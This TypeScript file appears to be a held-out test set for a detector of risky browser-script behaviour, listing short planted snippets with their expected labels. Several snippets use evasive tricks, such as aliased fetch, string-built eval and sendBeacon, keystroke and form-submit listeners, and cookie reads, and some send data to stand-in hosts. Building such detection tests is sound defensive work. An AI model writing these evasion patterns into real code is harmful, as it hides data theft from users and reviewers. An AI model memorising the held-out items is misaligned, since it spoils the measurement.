import type { Planted } from './planted.ts'

/** Written after the reading of scripts, which was not changed for it: it measures what is found of code that nobody thought of. */
export const HELD_OUT: readonly Planted[] = [
  {
    code: `const api = { call: fetch }; await api.call('https://h01.example'); b(api)`,
    name: 'network.fetch',
  },
  {
    code: `const [f] = [window.fetch]; await f('https://h02.example'); f(b)`,
    name: 'network.fetch',
    target: 'h02.example',
  },
  {
    code: `class C { base = 'https://h03.example'; load() { return fetch(this.base + '/x') } } a.c = new C()`,
    name: 'network.fetch',
    target: 'h03.example',
  },
  {
    code: `let url = 'https://h04.example/'; url += a; await fetch(url)`,
    name: 'network.fetch',
    target: 'h04.example',
  },
  {
    code: `const p = new URLSearchParams(a); await fetch(\`https://h05.example/?\${p}\`)`,
    name: 'network.fetch',
    target: 'h05.example',
  },
  {
    code: `await fetch('HTTPS://H06.example:8443/x'.toLowerCase())`,
    name: 'network.fetch',
    target: 'h06.example:8443',
  },
  {
    code: `const g = Function('return this')(); await g.fetch('https://h07.example'); g.x(b)`,
    name: 'network.fetch',
    target: 'h07.example',
  },
  {
    code: `const i = new Image(); i.onload = b; i.src = \`//h08.example/\${a}.gif\``,
    name: 'network.resource',
    target: 'h08.example',
  },
  { code: `const k = 'ev' + 'al'; window[k](a)`, name: 'code.eval' },
  { code: `Object.getPrototypeOf(async function () {}).constructor(a)()`, name: 'code.function' },
  { code: `const t = window.setTimeout; t('x()', 1); t(b)`, name: 'code.string-timer' },
  {
    code: `const r = document.createRange(); a.append(r.createContextualFragment(b))`,
    name: 'page.html',
    target: 'createContextualFragment',
  },
  { code: `a.ownerDocument.defaultView.localStorage.clear()`, name: 'data.local-storage' },
  {
    code: `for (const type of ['keydown', 'input']) document.addEventListener(type, a)`,
    name: 'page.listener',
  },
  { code: `const { cookie } = document; a.c = cookie`, name: 'data.cookie' },
  { code: `document.body.addEventListener('submit', a, true)`, name: 'page.listener', target: 'submit' },
  { code: `Reflect.set(window, 'onerror', a)`, name: 'page.listener', target: 'error' },
  { code: `top.location = 'https://h18.example'`, name: 'page.navigation', target: 'h18.example' },
  {
    code: `Reflect.construct(WebSocket, ['wss://h19.example'])`,
    name: 'network.websocket',
    target: 'h19.example',
  },
  {
    code: `navigator['send' + 'Beacon']('https://h20.example', a)`,
    name: 'network.beacon',
    target: 'h20.example',
  },
  {
    code: `const el = document.createElement('SCRIPT'); el.src = 'https://h21.example/x.js'; b(el)`,
    name: 'page.script-element',
  },
  {
    code: `String.prototype.trim = function () { return a }`,
    name: 'page.prototype-write',
    target: 'String.prototype.trim',
  },
]
